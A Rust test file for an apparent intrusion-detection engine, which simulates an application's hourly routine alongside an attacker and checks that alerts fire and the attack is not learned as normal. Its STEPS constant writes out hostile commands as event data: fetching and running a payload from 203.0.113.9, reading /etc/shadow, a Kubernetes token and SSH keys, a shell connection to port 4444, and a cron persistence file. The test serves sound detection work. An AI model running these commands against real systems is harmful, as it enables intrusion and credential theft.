//! An attacker who is there from the first minute, and acts as regularly as the application does,
//! is found all the same, and what he does does not become what the application does.
//!
//! Each case is four days of one replica: an application that does the same three things every
//! hour, and an attacker who does a choice of what attackers do, at a rhythm of his own. The
//! profile knows no time before him.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test may panic, in its helpers too"
)]

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use clew_engine::{Engine, Output, Settings};
use clew_event::{Event, EventKind, Text, TimestampNs};
use clew_rules::{Options, RuleSet, SourceFile, load};
use clew_testkit::scenario;

const CASES: u64 = 40;
const ROUNDS: u64 = 4 * 24;
const ROUND_NS: u64 = 3_600_000_000_000;
/// What the application opens first in each round.
const FIRST: &str = "/srv/app/index.js";
const SERVERS: [&str; 5] = ["node app.js", "java -jar app.jar", "php-fpm", "nginx", "gunicorn"];
/// Rounds between two visits of the attacker.
const RHYTHMS: [u64; 4] = [1, 2, 6, 12];

/// What attackers do, in a shell with pid S and with a child C.
const STEPS: [&str; 8] = [
    "exec pid=C ppid=S args=\"curl -s http://203.0.113.9/x -o /tmp/x\"\nconnect pid=C to=203.0.113.9:80",
    "exec pid=C ppid=S args=\"cat /etc/shadow\"\nopen pid=C path=/etc/shadow",
    "exec pid=C ppid=S args=\"cat /var/run/secrets/kubernetes.io/serviceaccount/token\"\n\
     open pid=C path=/var/run/secrets/kubernetes.io/serviceaccount/token",
    "exec pid=C ppid=S args=/tmp/x exe=/tmp/x flags=upper_layer",
    "connect pid=S to=203.0.113.9:4444",
    "open pid=S path=/etc/cron.d/x flags=write,create",
    "exec pid=C ppid=S args=id\nexec pid=C args=\"uname -a\"",
    "exec pid=C ppid=S args=\"tar c /root/.ssh\"\nopen pid=C path=/root/.ssh/id_rsa",
];

/// splitmix64.
fn draw(seed: &mut u64, below: usize) -> usize {
    *seed = seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut mixed = *seed;
    mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    usize::try_from((mixed ^ (mixed >> 31)) >> 32).unwrap() % below
}

/// The events of one case; with no attacker where `steps` is empty.
fn case(server: &str, rhythm: u64, steps: &BTreeSet<usize>) -> Vec<Event> {
    let mut text = format!("exec pid=10 container=web args=\"{server}\"\n");
    for round in 0..ROUNDS {
        let (usual, shell, mut child) =
            (1_000 + round * 20, 1_001 + round * 20, 1_001 + round * 20);
        writeln!(text, "open pid=10 path={FIRST}").unwrap();
        writeln!(text, "exec pid={usual} ppid=10 args=\"convert in.png out.jpg\"").unwrap();
        writeln!(text, "connect pid=10 to=10.0.0.5:5432").unwrap();
        if steps.is_empty() || !round.is_multiple_of(rhythm) {
            continue;
        }
        writeln!(text, "exec pid={shell} ppid=10 args=\"sh -i\"").unwrap();
        for step in steps {
            child += 1;
            let lines = STEPS[*step].replace("=S", &format!("={shell}"));
            writeln!(text, "{}", lines.replace("=C", &format!("={child}"))).unwrap();
        }
    }
    let mut events = scenario::events(&text).unwrap();
    let mut round = 0_u64;
    for event in &mut events {
        let is_first =
            matches!(&event.kind, EventKind::File(it) if it.path.as_bytes() == FIRST.as_bytes());
        round += u64::from(is_first);
        let begin = round.saturating_sub(1) * ROUND_NS;
        event.time = TimestampNs::from_unix_ns(event.time.unix_ns() + begin);
        event.arrived = event.time;
    }
    events
}

fn ours() -> RuleSet {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let mut files: Vec<_> = fs::read_dir(folder).unwrap().map(|it| it.unwrap().path()).collect();
    files.retain(|path| path.extension().is_some_and(|it| it == "yaml"));
    files.sort();
    let source = |path: &std::path::PathBuf| SourceFile {
        name: path.file_name().unwrap().to_string_lossy().into_owned(),
        text: fs::read_to_string(path).unwrap(),
    };
    load(&files.iter().map(source).collect::<Vec<_>>(), &Options::default()).rules
}

/// Whether there was a story, and how much of the attack has become normal.
fn run(rules: RuleSet, events: &[Event]) -> (bool, Vec<String>) {
    let mut engine = Engine::new(rules, Settings::default());
    let mut output = Output::default();
    events.iter().for_each(|event| engine.step(event, &mut output));
    let known = engine.profiles().known();
    let profile = &known.get(&Text::from("web")).unwrap().versions()[0].profile;
    let normal = profile.items().filter(|(_, record)| record.is_normal(record.last));
    let normal = normal.map(|(item, _)| item.to_string());
    let usual = [FIRST, "convert", "5432", "(start)"];
    let taught = normal.filter(|item| !usual.iter().any(|usual| item.contains(usual)));
    (!output.stories.is_empty(), taught.collect())
}

#[test]
fn an_attacker_from_the_first_minute_on_forms_a_story_in_at_least_nine_of_ten_cases() {
    // Behavior alone, without any rule, is less; the promise is of what ships.
    let alone = (RuleSet::default as fn() -> RuleSet, 7);
    for (name, (rules, tenths)) in [("no rules", alone), ("our rules", (ours, 9))] {
        let (mut formed, mut taught) = (0_u64, 0);
        for number in 0..CASES {
            let mut seed = number;
            let server = SERVERS[draw(&mut seed, 5)];
            let rhythm = RHYTHMS[draw(&mut seed, 4)];
            let mut steps = BTreeSet::new();
            let count = 2 + draw(&mut seed, 3);
            while steps.len() < count {
                steps.insert(draw(&mut seed, 8));
            }
            let (has_story, normal) = run(rules(), &case(server, rhythm, &steps));
            formed += u64::from(has_story);
            taught += usize::from(!normal.is_empty());
            if !has_story || !normal.is_empty() {
                eprintln!("{name}: {server}, every {rhythm}, {steps:?}: {has_story} {normal:?}");
            }
        }
        eprintln!("{name}: a story in {formed} of {CASES}, something taught in {taught}");
        assert!(CASES * tenths <= formed * 10, "{name}: {formed} of {CASES}");
    }
}

#[test]
fn the_same_days_without_an_attacker_give_no_story() {
    for server in SERVERS {
        let (has_story, _) = run(ours(), &case(server, 1, &BTreeSet::new()));
        assert!(!has_story, "{server}");
    }
}
